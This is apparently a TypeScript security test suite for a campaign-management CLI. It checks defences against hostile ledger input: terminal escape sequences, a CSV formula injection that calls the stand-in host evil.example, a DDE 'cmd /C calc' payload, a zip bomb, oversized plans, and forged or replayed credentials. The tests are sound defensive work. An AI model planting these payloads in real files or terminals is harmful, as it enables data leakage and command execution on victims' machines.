import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCredentialFile } from '../../client/access/credential-files';
import { expectRejection } from '../../client/update-rejection';
import {
  accessQuery,
  approvePhaseUpdate,
  auditLogQuery,
  campaignWorkflowId,
  submitReportUpdate,
  unitWorkflowId,
} from '../../contracts';
import { proofFor } from '../../domain/access/credential-chain';
import { COUNTED_REFUSALS_PER_RUN, RECORDED_REFUSALS_PER_RUN } from '../../workflows/access-gate';
import { testClient, uniqueId } from '../helpers/temporal';
import { campaign, cliEnv, startWorker, writePlan, type RunningWorker } from '../cli/support/cli';
import { eventually } from '../support/eventually';
import { encodedBytes } from '../../domain/plan/plan-limits';
import { planOfShape } from './support/plan-sizes';
import { zipBomb } from './support/zip-bomb';

/**
 * The second hostile-input review, replayed from outside against a real worker process and the
 * real binary: a ledger whose cells carry terminal escapes and spreadsheet formulas, a zip bomb
 * imported as a ledger, and a plan with a megabyte title.
 */

const env = cliEnv();
const id = uniqueId('hostile');
const file = (name: string) => path.join(env.dataDir, name);
let worker: RunningWorker;

const HEADER =
  '序号,编号,信访人,联系方式,反映问题,问题类别,重点标识,承办单位,包案领导,具体责任人,稳控责任人,办结时限,工作要求';
const ESCAPES = '\x1b[2J\x1b]0;owned\x07清屏\u202Eevil\u0000end';
const FORMULA = `=HYPERLINK("http://evil.example/?leak=1","点我")`;
// eslint-disable-next-line no-control-regex -- the characters a terminal obeys: ESC, NUL, the bidi override
const RAW_CONTROL = /[\x00\x1b\u202e]/;
const csvQuote = (text: string) => `"${text.replaceAll('"', '""')}"`;

function casesPlan(): string {
  const text = fs
    .readFileSync(writePlan(env.dataDir, id), 'utf8')
    .replace(
      '    deliverables: [{ id: members, title: 工作小组成员名单, kind: member-list, due: 2026-04-13 }]',
      '    casesFiling: true\n    deliverables: [{ id: members, title: 工作小组成员名单, kind: member-list, due: 2026-04-13 }]',
    )
    .replace('window: { start: 2026-04-12, end: 2026-04-13 }', 'window: { start: 2026-04-12, end: 2026-06-30 }')
    .replace('window: { start: 2026-04-14, end: 2026-04-15 }', 'window: { start: 2026-07-01, end: 2026-07-02 }')
    .replace('due: 2026-04-15', 'due: 2026-07-02');
  fs.writeFileSync(file('plan.yaml'), text);
  return file('plan.yaml');
}

beforeAll(async () => {
  worker = await startWorker(env);
  const started = await campaign(env, ['start', casesPlan(), '--rehearsal-day', '600']);
  expect(started.code, started.stderr).toBe(0);
  const rows = [
    [
      1,
      'H-1',
      '张某',
      '13800000000',
      ESCAPES,
      '涉法涉诉',
      '',
      '甲镇',
      '副县长',
      '王干事',
      '李所长',
      '2026-06-15',
      '依法',
    ],
    [
      2,
      'H-2',
      '@李某',
      '+8613800000000',
      FORMULA,
      '涉法涉诉',
      '',
      '甲镇',
      '副县长',
      "=cmd|' /C calc'!A0",
      '-2+3',
      '2026-06-15',
      '依法',
    ],
  ].map((cells) => cells.map((cell) => csvQuote(String(cell))).join(','));
  fs.writeFileSync(file('hostile.csv'), `${[HEADER, ...rows].join('\r\n')}\r\n`);
});

afterAll(async () => {
  await worker?.stop();
  fs.rmSync(env.dataDir, { recursive: true, force: true });
});

describe('finding 5: control characters never reach the terminal raw', () => {
  it('imports cells holding ESC, U+202E and NUL, and lists them as visible escapes', async () => {
    const imported = await campaign(env, ['case', 'import', id, file('hostile.csv')]);
    expect(imported.code, imported.stderr).toBe(0);
    const listed = await campaign(env, ['case', 'list', id, '--unit', 'town-a']);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).not.toMatch(RAW_CONTROL);
    expect(listed.stdout).toContain('\\x1b[2J\\x1b]0;owned');
    // The JSON keeps the value exactly, with the bidi override written as an escape.
    const json = await campaign(env, ['case', 'list', id, '--unit', 'town-a', '--json']);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const cases = JSON.parse(json.stdout) as { title: string }[];
    expect(cases.map((c) => c.title)).toContain(ESCAPES);
  });
});

describe('finding 6: CSV exports never carry a live formula', () => {
  it.each([[[]], [['--personal-data']]])('defuses = + - @ in the ledger export %s', async (extra) => {
    const out = file(`export-${extra.length}.csv`);
    const exported = await campaign(env, ['ledger', 'export', id, out, '--unit', 'town-a', ...extra]);
    expect(exported.code, exported.stderr).toBe(0);
    const text = fs.readFileSync(out, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example`);
    expect(text).toContain(`'=cmd|' /C calc'!A0`);
    expect(text).toContain(`'-2+3`);
    // No cell starts with a formula character: every one begins a line, or follows a comma or a quote.
    expect(text).not.toMatch(/(^|,|,")[=+\-@]/m);
  });
});

describe('finding 4: a zip bomb given as a ledger', () => {
  it('is refused with a row error before exceljs inflates it, and imports nothing', async () => {
    fs.writeFileSync(file('bomb.xlsx'), zipBomb(3, 100));
    const result = await campaign(env, ['case', 'import', id, file('bomb.xlsx')]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('unpacks to 300 MB, more than the 160 MB allowed');
  });
});

describe('finding 2: a plan the server would refuse is refused by validate', () => {
  it('refuses a 1 MB title, naming the field, and start leaves no credential files', async () => {
    const plan = fs
      .readFileSync(writePlan(env.dataDir, 'big-title'), 'utf8')
      .replace('title: 小型演练', `title: ${'x'.repeat(1024 * 1024)}`);
    fs.writeFileSync(file('big-title.yaml'), plan);
    const validated = await campaign(env, ['validate', file('big-title.yaml')]);
    expect(validated.code).toBe(1);
    expect(validated.stdout).toContain('campaign.title: must be at most 200');
    const started = await campaign(env, ['start', file('big-title.yaml')]);
    expect(started.code).toBe(1);
    expect(fs.existsSync(path.join(env.dataDir, 'credentials', 'big-title'))).toBe(false);
  });

  it('starts plans at the bounds on the real server, and they run and publish their status', async () => {
    const shapes = [
      // The longest title in the widest characters, the longest unit names.
      {
        title: '𠀀'.repeat(200),
        unitName: '长'.repeat(95),
        units: 3,
        phases: 2,
        deliverables: 1,
        deliverableTitle: '名单',
      },
      // Close to the whole-plan bound: many phases of many deliverables with long titles.
      { title: '演练', unitName: '甲镇', units: 2, phases: 30, deliverables: 60, deliverableTitle: 'x'.repeat(200) },
    ];
    for (const [i, shape] of shapes.entries()) {
      const planId = `${id}-bound-${i}`;
      const plan = planOfShape(planId, shape);
      fs.writeFileSync(file(`${planId}.json`), JSON.stringify(plan));
      const validated = await campaign(env, ['validate', file(`${planId}.json`)]);
      expect(validated.code, validated.stdout).toBe(0);
      const started = await campaign(env, ['start', file(`${planId}.json`), '--rehearsal-day', '600']);
      expect(started.code, started.stderr).toBe(0);
      const glance = await eventually(
        () => campaign(env, ['glance', planId, '--json']),
        (result) => result.code === 0,
        { timeoutMs: 90_000, intervalMs: 1_000, what: `${planId} to publish its status` },
      );
      expect(JSON.parse(glance.stdout)).toMatchObject({ status: 'running', title: plan.campaign.title });
    }
    expect(encodedBytes(planOfShape('x', shapes[1]!))).toBeGreaterThan(400 * 1024);
  });
});

describe('finding 7: every refusal is audited, and a flood is counted', () => {
  it('audits a spent credential value shown again (a replayed link)', async () => {
    const client = await testClient();
    const workflowId = unitWorkflowId(id, 'town-a');
    const unit = client.workflow.getHandle(workflowId);
    // The campaign starts its unit workflows a moment after it starts.
    const depths = await eventually(
      () => unit.query(accessQuery).catch(() => null),
      (found) => found !== null,
      { what: 'the unit workflow' },
    );
    const depth = depths?.['unit:town-a'] ?? 0;
    const { token } = readCredentialFile(path.join(env.dataDir, 'credentials', id, 'unit-town-a.credential.json'));
    const credential = { principal: 'unit:town-a', proof: proofFor(token, workflowId, depth) };
    const report = { deliverableId: 'members', report: { members: [{ name: '张三' }] }, by: 'unit:town-a', credential };
    await unit.executeUpdate(submitReportUpdate, { args: [report as never] });
    const replayed = await expectRejection(unit.executeUpdate(submitReportUpdate, { args: [report as never] }));
    expect(replayed.type).toBe('credential_stale');
    const log = await eventually(
      () => client.workflow.getHandle(campaignWorkflowId(id)).query(auditLogQuery),
      (audit) => audit.entries.some((e) => e.code === 'credential_stale'),
      { what: 'the replayed link in the audit log' },
    );
    expect(log.entries.find((e) => e.code === 'credential_stale')).toMatchObject({
      workflow: 'town-a',
      principal: 'unit:town-a',
    });
  });

  it('counts refusals past the per-run bound as dropped, and audit shows them', async () => {
    const client = await testClient();
    const handle = client.workflow.getHandle(campaignWorkflowId(id));
    const before = await handle.query(auditLogQuery);
    const forged = {
      phaseId: 'accept',
      by: 'leader:head',
      credential: { principal: 'leader:head', proof: 'ab'.repeat(32) },
    };
    const flood = COUNTED_REFUSALS_PER_RUN + 5;
    // At most ten updates in flight at once, as the server allows.
    for (let sent = 0; sent < flood; sent += 10) {
      const batch = Array.from({ length: Math.min(10, flood - sent) }, () =>
        expectRejection(handle.executeUpdate(approvePhaseUpdate, { args: [forged as never] })),
      );
      for (const rejection of await Promise.all(batch)) expect(rejection.type).toBe('credential_invalid');
    }
    const audit = await campaign(env, ['audit', id, '--json']);
    expect(audit.code, audit.stderr).toBe(0);
    const log = JSON.parse(audit.stdout) as { total: number; dropped: number; entries: { code: string }[] };
    expect(log.total - before.total).toBe(COUNTED_REFUSALS_PER_RUN);
    expect(log.dropped).toBe(COUNTED_REFUSALS_PER_RUN - RECORDED_REFUSALS_PER_RUN - 1);
    expect(log.entries.at(-1)?.code).toBe('audit_bound_reached');
    const human = await campaign(env, ['audit', id]);
    expect(human.stdout).toContain(`dropped: ${log.dropped} (refused past the bound`);
    expect(human.stdout).toContain(`total: ${log.total} refused attempt(s)`);
  });
});

describe('finding 8: --no-credentials only for rehearsals, and shown on every view', () => {
  it('refuses a live campaign without credentials, before anything starts', async () => {
    const started = await campaign(env, ['start', writePlan(env.dataDir, `${id}-open-live`), '--no-credentials']);
    expect(started.code).toBe(2);
    expect(started.stderr).toContain('--no-credentials is for rehearsals only');
    const list = await campaign(env, ['list', '--json']);
    expect(list.stdout).not.toContain(`${id}-open-live`);
  });

  it('shows a rehearsal without credentials as such in status, glance, list and audit', async () => {
    const openId = `${id}-open`;
    const started = await campaign(env, [
      'start',
      writePlan(env.dataDir, openId),
      '--no-credentials',
      '--rehearsal-day',
      '600',
    ]);
    expect(started.code, started.stderr).toBe(0);
    const line = 'credentials    none: anyone who reaches Temporal may act';
    const status = await campaign(env, ['status', openId]);
    expect(status.stdout).toContain(line);
    expect(JSON.parse((await campaign(env, ['status', openId, '--json'])).stdout)).toMatchObject({
      credentials: false,
    });
    const glance = await eventually(
      () => campaign(env, ['glance', openId]),
      (result) => result.code === 0,
      { timeoutMs: 60_000, intervalMs: 1_000, what: 'the published status' },
    );
    expect(glance.stdout).toContain(line);
    const list = await campaign(env, ['list', '--json']);
    const listed = (JSON.parse(list.stdout) as { campaignId: string; credentials: boolean }[]).filter((c) =>
      c.campaignId.startsWith(id),
    );
    expect(listed.find((c) => c.campaignId === openId)).toMatchObject({ credentials: false });
    expect(listed.find((c) => c.campaignId === id)).toMatchObject({ credentials: true });
    expect((await campaign(env, ['list'])).stdout).toMatch(new RegExp(`${openId} .*rehearsal, no credentials`));
    const audit = await campaign(env, ['audit', openId]);
    expect(audit.stdout).toContain(`${line} (a rehearsal started with --no-credentials); nothing is checked`);
    expect(audit.stdout).not.toContain('no refused attempts');
  });
});

describe("finding 9: personal data on disk is the user's alone", () => {
  /** Every file and folder under `root`, with its permission bits. */
  function modes(root: string): { file: string; mode: number; folder: boolean }[] {
    return fs.readdirSync(root, { recursive: true, encoding: 'utf8' }).map((name) => {
      const stat = fs.statSync(path.join(root, name));
      return { file: name, mode: stat.mode & 0o777, folder: stat.isDirectory() };
    });
  }

  it('writes mails, the notification log and uploaded reports 0600 in folders 0700', async () => {
    fs.writeFileSync(file('scan.txt'), '成员名单：张三 13800000000\n');
    const submitted = await campaign(env, [
      'submit',
      id,
      '--unit',
      'town-b',
      '--deliverable',
      'members',
      '--file',
      file('scan.txt'),
    ]);
    expect(submitted.code, submitted.stderr).toBe(0);
    // The phase opened and the import told the units: mails and log entries exist by now.
    const written = await eventually(
      () =>
        Promise.resolve(modes(env.dataDir).filter((m) => !/^(credentials|.*\.(yaml|json|csv|xlsx|txt))$/.test(m.file))),
      (found) => found.some((m) => m.file.endsWith('.eml')) && found.some((m) => m.file.endsWith('.jsonl')),
      { timeoutMs: 60_000, intervalMs: 1_000, what: 'mails and the notification log on disk' },
    );
    const loose = written.filter((m) => m.mode !== (m.folder ? 0o700 : 0o600) && !m.file.startsWith('credentials'));
    expect(loose.filter((m) => !m.file.includes('codec-keys'))).toEqual([]);
    expect(written.some((m) => /reports?/.test(m.file))).toBe(true);
  });

  it('writes a ledger export with personal data 0600, even over an existing file', async () => {
    const out = file('personal.csv');
    fs.writeFileSync(out, 'old', { mode: 0o644 });
    const exported = await campaign(env, ['ledger', 'export', id, out, '--unit', 'town-a', '--personal-data']);
    expect(exported.code, exported.stderr).toBe(0);
    expect(fs.statSync(out).mode & 0o777).toBe(0o600);
  });

  it('writes the campaign report 0600 into a folder it makes 0700, even over an existing file', async () => {
    const folder = file('reports-out');
    const first = await campaign(env, ['report', id, '--format', 'csv', '--out', folder]);
    expect(first.code, first.stderr).toBe(0);
    const written = path.join(folder, `${id}-report.csv`);
    expect(fs.statSync(folder).mode & 0o777).toBe(0o700);
    expect(fs.statSync(written).mode & 0o777).toBe(0o600);
    fs.chmodSync(written, 0o644);
    const again = await campaign(env, ['report', id, '--format', 'csv', '--out', folder]);
    expect(again.code, again.stderr).toBe(0);
    expect(fs.statSync(written).mode & 0o777).toBe(0o600);
  });
});

describe('a credential file is a regular file under a bound, like every file the CLI reads', () => {
  const submitWith = (credential: string) =>
    campaign(env, [
      'submit',
      id,
      '--unit',
      'town-a',
      '--deliverable',
      'members',
      '--text',
      '张三',
      '--credential',
      credential,
    ]);

  it('refuses a FIFO at once instead of waiting for a writer', async () => {
    fs.rmSync(file('token.fifo'), { force: true });
    execFileSync('mkfifo', [file('token.fifo')]);
    const result = await submitWith(file('token.fifo'));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is a named pipe (FIFO), not a file');
  });

  it('refuses /dev/zero behind a symlink, and a file past 64 KB, without reading them whole', async () => {
    fs.rmSync(file('zero.credential.json'), { force: true });
    fs.symlinkSync('/dev/zero', file('zero.credential.json'));
    const device = await submitWith(file('zero.credential.json'));
    expect(device.code).toBe(2);
    expect(device.stderr).toContain('is a device, not a file');
    fs.writeFileSync(file('huge.credential.json'), `{"pad":"${'x'.repeat(200 * 1024)}"}`);
    const huge = await submitWith(file('huge.credential.json'));
    expect(huge.code).toBe(2);
    expect(huge.stderr).toContain('is larger than 64 KB, the most this command reads');
  });
});
